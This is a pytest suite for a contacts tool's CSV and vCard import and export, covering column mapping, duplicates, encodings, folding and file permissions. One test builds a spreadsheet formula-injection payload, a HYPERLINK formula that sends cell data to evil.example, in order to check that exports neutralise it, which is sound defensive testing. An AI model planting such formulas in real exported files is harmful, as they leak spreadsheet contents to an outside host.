"""Contacts in and out: CSV with a column mapping, vCard 3.0; what goes in, what is skipped
and why, and what a user gets back out."""

from __future__ import annotations

import csv
import itertools
import os
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from composer.contacts_io import (
    Outcome,
    Skipped,
    check_imported,
    export_contacts_csv,
    guess_columns,
    import_csv,
    preview,
    read_csv,
)
from composer.errors import FileProblem
from composer.records import Contact
from composer.store import Store
from composer.vcard import export_vcards, fold, import_vcards, parse_vcards, unfold, vcard


def write(tmp_path: Path, text: str, name: str = "contacts.csv", encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def people(store: Store) -> list[tuple[str, str, str, str, str, str]]:
    return [(c.name, c.email, c.company, c.title, c.phone, c.notes) for c in store.contacts()]


# --- CSV: columns -----------------------------------------------------------------------

OUTLOOK = (
    "Title,First Name,Middle Name,Last Name,Company,Job Title,Business Phone,Mobile Phone,"
    "E-mail Address,E-mail 2 Address,Notes\r\n"
    "Ms.,Ana,,Lima,Acme,Engineering Lead,+44 20 1,+44 7700 1,ana@acme.example,"
    'ana@home.example,"Met at the final round\r\nLikes Rust"\r\n'
)


def test_common_header_names_are_mapped_and_first_and_last_names_joined(
    store: Store, tmp_path: Path
) -> None:
    table = read_csv(write(tmp_path, OUTLOOK))
    columns = guess_columns(table.header)
    assert dict(zip(table.header, columns, strict=True)) == {
        "Title": None,  # Outlook's "Title" is Ms./Mr.; the job title has a column of its own
        "First Name": "name",
        "Middle Name": "name",
        "Last Name": "name",
        "Company": "company",
        "Job Title": "title",
        "Business Phone": None,
        "Mobile Phone": "phone",
        "E-mail Address": "email",
        "E-mail 2 Address": None,
        "Notes": "notes",
    }
    report = import_csv(store, table, columns)
    assert (report.imported, report.duplicates, report.bad) == (1, (), ())
    assert people(store) == [
        (
            "Ana Lima",
            "ana@acme.example",
            "Acme",
            "Engineering Lead",
            "+44 7700 1",
            "Met at the final round\nLikes Rust",
        )
    ]


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("Full name,E-mail,Organization,Position", ["name", "email", "company", "title"]),
        (
            "Name,Given Name,Family Name,E-mail 1 - Type,E-mail 1 - Value,Phone 1 - Value,"
            "Organization 1 - Name,Organization 1 - Title",
            ["name", None, None, None, "email", "phone", "company", "title"],
        ),
        (
            "first_name;SURNAME;email address;Mobile;Comments",
            ["name", "name", "email", "phone", "notes"],
        ),
        ("Colour,Shoe size", [None, None]),
    ],
)
def test_guessing_columns_from_exports_people_have(header: str, expected: list[str | None]) -> None:
    assert guess_columns(header.replace(";", ",").split(",")) == expected


def test_the_mapping_the_user_chose_is_the_one_imported(store: Store, tmp_path: Path) -> None:
    text = (
        "Who,Reach at,Where,Comments,Met\n"
        "Ana Lima,ana@acme.example,Acme,Engineering Lead,Final round\n"
    )
    table = read_csv(write(tmp_path, text))
    assert guess_columns(table.header) == [None, None, None, "notes", None]
    chosen = ["name", "email", "company", "title", "notes"]  # "Comments" holds the job title
    assert [c.contact for c in preview(table, chosen, set())] == [
        Contact("Ana Lima", "ana@acme.example", "Acme", "Engineering Lead", "", "Final round")
    ]
    import_csv(store, table, chosen)
    assert people(store) == [
        ("Ana Lima", "ana@acme.example", "Acme", "Engineering Lead", "", "Final round")
    ]


def test_an_ignored_column_is_not_imported(store: Store, tmp_path: Path) -> None:
    table = read_csv(write(tmp_path, "Name,Email,Notes\nAna,ana@acme.example,private\n"))
    import_csv(store, table, ["name", "email", None])
    assert people(store) == [("Ana", "ana@acme.example", "", "", "", "")]


# --- CSV: duplicates and bad rows -------------------------------------------------------


def test_duplicates_of_contacts_and_within_the_file_are_skipped_with_their_lines(
    store: Store, tmp_path: Path
) -> None:
    store.add_contact(Contact("Ana Lima", "ana@acme.example"))
    text = (
        "Name,Email\n"
        "Ana L.,ANA@Acme.Example\n"  # line 2: already a contact, whatever the case
        "Bo Chen,bo@globex.example\n"
        "Bo C.,Bo@Globex.example\n"  # line 4: the same as line 3
        "No Email,\n"
        "Also No Email,\n"
    )
    table = read_csv(write(tmp_path, text))
    report = import_csv(store, table, guess_columns(table.header))
    assert report.imported == 3
    assert report.duplicates == (
        Skipped(2, "ANA@Acme.Example is already one of your contacts."),
        Skipped(4, "Bo@Globex.example is also on line 3."),
    )
    assert [(name, email) for name, email, *_ in people(store)] == [
        ("Also No Email", ""),
        ("Ana Lima", "ana@acme.example"),
        ("Bo Chen", "bo@globex.example"),
        ("No Email", ""),
    ]


def test_bad_rows_are_reported_by_line_and_not_imported(store: Store, tmp_path: Path) -> None:
    long_name = "A" * 501
    text = (
        "Name,Email,Company,Notes\n"
        'Ana Lima,ana@acme.example,Acme,"two\nlines"\n'  # lines 2-3
        ",,Globex,\n"  # line 4: nobody
        "Bo Chen,bo@,Globex,\n"  # line 5
        f"{long_name},long@acme.example,,\n"  # line 6
        "Cy Dee,cy@acme.example,Bell\x07Co,\n"  # line 7
        f"Di Eve,di@acme.example,,{'n' * 10_001}\n"  # line 8
        ",,,\n"  # an empty row, as spreadsheets leave them: not a problem
        "Ed Fox,,,\n"  # line 10
    )
    table = read_csv(write(tmp_path, text))
    report = import_csv(store, table, guess_columns(table.header))
    assert report.imported == 2
    assert report.bad == (
        Skipped(4, "There is no name and no email address."),
        Skipped(5, "“bo@” is not a valid email address."),
        Skipped(6, "The name is too long (501 characters). Keep it under 500."),
        Skipped(
            7,
            "The company contains a line break or a control character. "
            "Remove it: it must be a single line of text.",
        ),
        Skipped(8, "The notes are too long (10,001 characters). Keep them under 10,000."),
    )
    assert [(name, notes) for name, *_, notes in people(store)] == [
        ("Ana Lima", "two\nlines"),
        ("Ed Fox", ""),
    ]


def test_a_storage_error_imports_none_of_the_rows(store: Store, tmp_path: Path) -> None:
    store.add_contact(Contact("Zed Old", "zed@acme.example"))
    with sqlite3.connect(store.path) as db:  # the disk refuses the second row
        db.execute(
            "CREATE TRIGGER refuse BEFORE INSERT ON contacts WHEN NEW.name = 'Bo Chen' "
            "BEGIN SELECT RAISE(ABORT, 'disk full'); END"
        )
    text = "Name,Email\nAna Lima,ana@acme.example\nBo Chen,bo@globex.example\n"
    table = read_csv(write(tmp_path, text))
    with pytest.raises(sqlite3.DatabaseError, match="disk full"):
        import_csv(store, table, guess_columns(table.header))
    assert [c.name for c in store.contacts()] == ["Zed Old"]  # not Ana either


def test_the_preview_shows_the_first_rows_as_they_would_be_imported(tmp_path: Path) -> None:
    rows = "".join(f"Person {n},p{n}@acme.example\n" for n in range(20))
    text = "Name,Email\nAna Lima,ana@acme.example\nAna Again,ana@acme.example\n,,\nBo,bo@\n" + rows
    table = read_csv(write(tmp_path, text))
    shown = preview(table, guess_columns(table.header), {"p0@acme.example"})
    assert len(shown) == 10
    assert [(c.line, c.outcome, c.contact.name) for c in shown[:4]] == [
        (2, Outcome.NEW, "Ana Lima"),
        (3, Outcome.DUPLICATE, "Ana Again"),
        (5, Outcome.BAD, "Bo"),
        (6, Outcome.DUPLICATE, "Person 0"),
    ]
    assert shown[1].reason == "ana@acme.example is also on line 2."


# --- CSV: reading what people's programs write -----------------------------------------


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        ("Name;Email;Notes\nZoë Müller;zoe@x.example;1,5 years\n", "utf-8"),  # European Excel
        ("Name\tEmail\tNotes\nZoë Müller\tzoe@x.example\t1,5 years\n", "utf-8"),
        ('\ufeffName,Email,Notes\nZoë Müller,zoe@x.example,"1,5 years"\n', "utf-8"),  # BOM
        ("Name\tEmail\tNotes\r\nZoë Müller\tzoe@x.example\t1,5 years\r\n", "utf-16"),
    ],
)
def test_delimiters_and_unicode_encodings(tmp_path: Path, text: str, encoding: str) -> None:
    table = read_csv(write(tmp_path, text, encoding=encoding))
    assert table.header == ("Name", "Email", "Notes")
    assert [row.cells for row in table.rows] == [("Zoë Müller", "zoe@x.example", "1,5 years")]
    assert table.note == ""


@pytest.mark.parametrize(
    ("data", "read_as"),
    [
        (b"Name,Email\nZo\xeb M\xfcller \x80,zoe@x.example\n", "Windows-1252"),
        (b"Name,Email\nZo\xeb M\xfcller \x81,zoe@x.example\n", "Latin-1"),  # not in cp1252
    ],
)
def test_a_file_that_is_not_utf8_is_read_and_the_user_told(
    tmp_path: Path, data: bytes, read_as: str
) -> None:
    path = tmp_path / "old.csv"
    path.write_bytes(data)
    table = read_csv(path)
    assert table.rows[0].cells[0].startswith("Zoë Müller ")
    assert f"not in UTF-8, so it was read as {read_as}" in table.note
    assert "save it again as UTF-8" in table.note


def test_notes_above_the_header_row_are_passed_over(tmp_path: Path) -> None:
    text = (
        "Notes:\n"
        '"When exporting your connection data, you may notice that some emails are missing."\n'
        "\n"
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        "Ana,Lima,https://example.org/ana,ana@acme.example,Acme,Engineering Lead,01 Jan 2026\n"
    )
    table = read_csv(write(tmp_path, text))
    assert table.header[:2] == ("First Name", "Last Name")
    [row] = preview(table, guess_columns(table.header), set())
    assert (row.line, row.contact.name, row.contact.title) == (5, "Ana Lima", "Engineering Lead")


@pytest.mark.parametrize(
    "text",
    [
        "Ana Lima,ana@acme.example\nBen Ode,ben@acme.example\nCy Park,cy@acme.example,Initech\n",
        "Ana Lima,ana@acme.example\n",
    ],
)
def test_a_file_with_no_header_row_keeps_its_first_person(
    store: Store, tmp_path: Path, text: str
) -> None:
    table = read_csv(write(tmp_path, text))
    width = max(len(line.split(",")) for line in text.splitlines())
    assert table.header == tuple(f"Column {i}" for i in range(1, width + 1))
    assert guess_columns(table.header) == [None] * width  # the user says what each holds
    report = import_csv(store, table, ["name", "email", "company"])
    assert report.imported == len(text.splitlines()) and not report.bad
    assert people(store)[0] == ("Ana Lima", "ana@acme.example", "", "", "", "")
    assert [row.line for row in table.rows] == list(range(1, report.imported + 1))


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (lambda d: d / "missing.csv", ["cannot read", "missing.csv", "Check that the file exists"]),
        (lambda d: d, ["cannot read", "Check that the file exists"]),  # a folder
        (lambda d: write(d, ""), ["contacts.csv is empty", "Export your contacts"]),
        (lambda d: write(d, "\n \n"), ["contacts.csv is empty"]),
        (lambda d: write(d, "Name,Email\n"), ["only a header row", "Export your contacts"]),
        (
            lambda d: write(d, "PK\x03\x04\x00\x00\x08\x00 zip bytes", "book.xlsx"),
            ["book.xlsx is not a CSV file", "binary", "Choose the CSV file"],
        ),
    ],
)
def test_files_a_user_can_get_wrong_are_told_not_crashed(
    tmp_path: Path, make: Callable[[Path], Path], says: list[str]
) -> None:
    with pytest.raises(FileProblem) as raised:
        read_csv(make(tmp_path))
    for words in says:
        assert words in str(raised.value)


# --- CSV: export ------------------------------------------------------------------------


def test_export_then_import_finds_every_contact_a_duplicate(store: Store, tmp_path: Path) -> None:
    store.add_contact(Contact("Zoë Müller", "zoe@x.example", "Acme, Inc", "Lead", "+44", "a\nb"))
    store.add_contact(Contact("山田太郎", "taro@example.jp", notes='say "hi"'))
    store.add_contact(Contact("Robert Smith", "rob@x.example", greeting="Bob"))
    path = tmp_path / "out.csv"
    assert export_contacts_csv(store.contacts(), path) == 3
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfName,Email,Company,Title,Phone,Notes,Greeting\r\n")
    assert ",Bob\r\n" in data.decode("utf-8-sig") and ",Zoë\r\n" in data.decode("utf-8-sig")

    table = read_csv(path)
    report = import_csv(store, table, guess_columns(table.header))
    assert (report.imported, [d.line for d in report.duplicates]) == (0, [2, 3, 5])

    with Store(tmp_path / "other.sqlite3") as fresh:
        import_csv(fresh, table, guess_columns(table.header))
        assert people(fresh) == people(store)
        # the saved greeting comes back; a derived one stays derived (it follows the name)
        assert [c.greeting for c in fresh.contacts()] == ["Bob", "", ""]


def test_an_export_that_cannot_be_written_says_so(tmp_path: Path) -> None:
    with pytest.raises(FileProblem, match=r"cannot write .* Choose another folder"):
        export_contacts_csv([Contact("Ana")], tmp_path / "no such folder" / "out.csv")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_contacts_export_writes_formula_cells_as_text(tmp_path: Path, start: str) -> None:
    """A spreadsheet runs "=HYPERLINK(…)" in a name someone sent; a leading ' makes it text."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    path = tmp_path / "out.csv"
    export_contacts_csv([Contact(formula, "ana@x.example", formula, notes=formula)], path)

    with path.open(encoding="utf-8-sig", newline="") as file:
        [header, row] = list(csv.reader(file))
    cells = dict(zip(header, row, strict=True))
    assert cells["Name"] == cells["Company"] == cells["Notes"] == "'" + formula
    assert cells["Email"] == "ana@x.example"


def test_formula_cells_exported_come_back_exactly_through_import(
    store: Store, tmp_path: Path
) -> None:
    store.add_contact(Contact("-Dash", "dash@x.example", "=Acme", "@Lead", "+44 20 7946 0000"))
    store.add_contact(Contact("'Tis O'Neil", "tis@x.example", "'=quoted", notes="-a\n=b"))
    store.add_contact(Contact("Bo", "bo@x.example", phone="+1 555 0100", greeting="+Bo"))
    path = tmp_path / "out.csv"
    export_contacts_csv(store.contacts(), path)
    assert ",'+44 20 7946 0000," in path.read_text(encoding="utf-8-sig")

    with Store(tmp_path / "other.sqlite3") as fresh:
        table = read_csv(path)
        assert import_csv(fresh, table, guess_columns(table.header)).imported == 3
        assert people(fresh) == people(store)
        back = {c.email: c for c in fresh.contacts()}
    assert (back["dash@x.example"].name, back["dash@x.example"].phone) == (
        "-Dash",
        "+44 20 7946 0000",
    )
    assert (back["bo@x.example"].phone, back["bo@x.example"].greeting) == ("+1 555 0100", "+Bo")
    assert (back["tis@x.example"].company, back["tis@x.example"].notes) == ("'=quoted", "-a\n=b")


def test_contact_exports_are_readable_by_the_user_alone(tmp_path: Path) -> None:
    old = os.umask(0o022)  # most systems' default: a careless file would be 0644
    try:
        export_contacts_csv([Contact("Ana", "ana@x.example")], tmp_path / "out.csv")
        (tmp_path / "cards.vcf").write_text("an older export")  # made 0644: replaced, private
        export_vcards([Contact("Ana", "ana@x.example")], tmp_path / "cards.vcf")
    finally:
        os.umask(old)
    modes = {p.name: p.stat().st_mode & 0o777 for p in tmp_path.iterdir()}
    assert modes == {"out.csv": 0o600, "cards.vcf": 0o600}


# --- vCard ------------------------------------------------------------------------------

NAMES = ["Zoë Müller-Łukasiewicz", "山田太郎", "Ana O'Brien-Lima, PhD; MD", "Ünal Ça\u0301ğrı"]


@pytest.mark.parametrize("name", NAMES)
def test_a_vcard_round_trips_a_non_ascii_name_exactly(
    store: Store, tmp_path: Path, name: str
) -> None:
    original = Contact(name, "zoe@x.example", "Acme; Inc, Ltd", "Leiterin", "+49 30 1", "ä\nö\\ü")
    store.add_contact(original)
    path = tmp_path / "out.vcf"
    assert export_vcards(store.contacts(), path) == 1
    with Store(tmp_path / "other.sqlite3") as fresh:
        report = import_vcards(fresh, path)
        assert (report.imported, report.bad) == (1, ())
        [back] = fresh.contacts()
    assert (back.name, back.email, back.company, back.title, back.phone, back.notes) == (
        name,
        "zoe@x.example",
        "Acme; Inc, Ltd",
        "Leiterin",
        "+49 30 1",
        "ä\nö\\ü",
    )


def test_vcard_escapes_specials_and_writes_structured_name() -> None:
    card = vcard(Contact("Ana Maria Lima", "ana@acme.example", "Acme; Inc, Ltd", notes="a\\b\nc"))
    assert card.split("\r\n") == [
        "BEGIN:VCARD",
        "VERSION:3.0",
        "FN:Ana Maria Lima",
        "N:Lima;Ana Maria;;;",
        "EMAIL;TYPE=INTERNET:ana@acme.example",
        "ORG:Acme\\; Inc\\, Ltd",
        "NOTE:a\\\\b\\nc",
        "END:VCARD",
        "",
    ]


def test_long_lines_fold_at_75_octets_between_characters() -> None:
    line = "NOTE:" + "ü" * 40 + "山" * 30 + "x" * 10
    folded = fold(line)
    physical = folded.encode().split(b"\r\n")
    assert len(physical) > 2
    assert all(len(part) <= 75 for part in physical)
    assert all(part.startswith(b" ") for part in physical[1:])
    for part in physical:
        part.decode()  # no character cut in two
    assert unfold(folded) == [(1, line)]


@given(
    st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=300),
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\r"), max_size=300),
)
@settings(max_examples=200)
def test_any_name_and_notes_survive_a_vcard(name: str, notes: str) -> None:
    name, notes = " ".join(name.split()) or "x", notes.strip()
    text = vcard(Contact(name, notes=notes))
    assert all(len(line) <= 75 for line in text.encode().split(b"\r\n"))
    [back] = check_imported(parse_vcards(text), set())
    assert (back.contact.name, back.contact.notes) == (name, notes)


def test_unfolding_takes_tabs_and_bare_line_feeds() -> None:
    text = "BEGIN:VCARD\nVERSION:3.0\nFN:Ana \n Maria\n\tLima\nEMAIL:ana@acme.example\nEND:VCARD\n"
    [card] = parse_vcards(text)
    assert card.values["name"] == "Ana MariaLima"  # one space or tab is the fold, no more
    assert card.values["email"] == "ana@acme.example"


def test_a_fold_inside_a_character_is_joined_before_the_file_is_decoded(
    store: Store, tmp_path: Path
) -> None:
    """Some exporters fold at 75 octets wherever that falls (RFC 6350 3.2 warns of it): no
    line is UTF-8 alone, the file is, and every line keeps its number."""
    name = "Zoë Müller 山田 😀".encode()
    cuts = [0, 3, 7, 14, 18, 22, len(name)]  # inside ë, ü, 山, 田 and 😀
    folded = b"\r\n ".join(name[start:end] for start, end in itertools.pairwise(cuts))
    data = (
        b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:"
        + folded.replace(b"\r\n ", b"\r\n\t", 1)
        + "\r\nEMAIL:zoe@x.example\r\nORG:Café\r\nEND:VCARD\r\n".encode()
        + b"BEGIN:VCARD\r\nFN:Cy Dee\r\n"  # line 12
    )
    for line in data.split(b"\r\n")[2:8]:
        with pytest.raises(UnicodeDecodeError):
            line.decode()
    path = tmp_path / "contacts.vcf"
    path.write_bytes(data)

    report = import_vcards(store, path)
    assert (report.imported, report.note) == (1, "")
    assert report.bad == (
        Skipped(12, "The card has no END:VCARD line: the file may be cut short."),
    )
    assert people(store) == [("Zoë Müller 山田 😀", "zoe@x.example", "Café", "", "", "")]


def test_groups_and_quoted_parameters_are_understood() -> None:
    text = (
        "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ana Lima\r\n"
        'ADR;LABEL="Main St: 1; Lisbon":;;Main St 1;Lisbon;;;\r\n'
        "item1.EMAIL;TYPE=work:ana@work.example\r\n"
        'item2.EMAIL;TYPE="home,x:y";PREF=1:ana@home.example\r\n'
        "END:VCARD\r\n"
    )
    [card] = parse_vcards(text)
    assert (card.values["name"], card.values["email"]) == ("Ana Lima", "ana@home.example")


def test_an_old_vcard_21_with_quoted_printable_is_decoded(store: Store, tmp_path: Path) -> None:
    text = (
        "BEGIN:VCARD\r\n"
        "VERSION:2.1\r\n"
        "N;CHARSET=ISO-8859-1;ENCODING=QUOTED-PRINTABLE:M=FCller;J=F6rg;;;\r\n"
        "EMAIL;INTERNET:old@x.example\r\n"
        "EMAIL;INTERNET;PREF:jm@x.example\r\n"
        "TEL;CELL;VOICE:+49 170 1\r\n"
        "ORG;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:Gr=C3=BCn GmbH;Vertrieb\r\n"
        "NOTE;QUOTED-PRINTABLE:first line=0D=0A=\r\n"
        "second line\r\n"
        "PHOTO;ENCODING=BASE64;TYPE=JPEG:\r\n"
        " /9j/4AAQSkZJRgABAQ\r\n"
        "\r\n"
        "X-ODD;CHARSET=NO-SUCH-CHARSET;ENCODING=QUOTED-PRINTABLE:=FF\r\n"
        "TITLE;CHARSET=NO-SUCH-CHARSET;ENCODING=QUOTED-PRINTABLE:Chef=FF\r\n"
        "END:VCARD\r\n"
    )
    report = import_vcards(store, write(tmp_path, text, "old.vcf", "latin-1"))
    assert (report.imported, report.bad) == (1, ())
    assert people(store) == [
        (
            "Jörg Müller",
            "jm@x.example",
            "Grün GmbH",
            "Chefÿ",
            "+49 170 1",
            "first line\nsecond line",
        )
    ]


def test_many_cards_one_cut_short_and_one_twice(store: Store, tmp_path: Path) -> None:
    cards = "".join(
        vcard(c)
        for c in (
            Contact("Ana Lima", "ana@acme.example"),
            Contact("Bo Chen", "bo@globex.example"),
            Contact("Ana Again", "ANA@acme.example"),  # six lines each: this one starts on 13
        )
    )
    cut = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Cy Dee\r\nEMAIL:cy@"  # line 19
    report = import_vcards(store, write(tmp_path, cards + cut, "all.vcf"))
    assert report.imported == 2
    assert report.duplicates == (Skipped(13, "ANA@acme.example is also on line 1."),)
    assert report.bad == (
        Skipped(19, "The card has no END:VCARD line: the file may be cut short."),
    )
    assert [c.name for c in store.contacts()] == ["Ana Lima", "Bo Chen"]


def test_a_file_with_no_cards_is_told(store: Store, tmp_path: Path) -> None:
    with pytest.raises(FileProblem, match=r"notes\.vcf holds no contacts.*Choose a \.vcf file"):
        import_vcards(store, write(tmp_path, "just some text\n", "notes.vcf"))
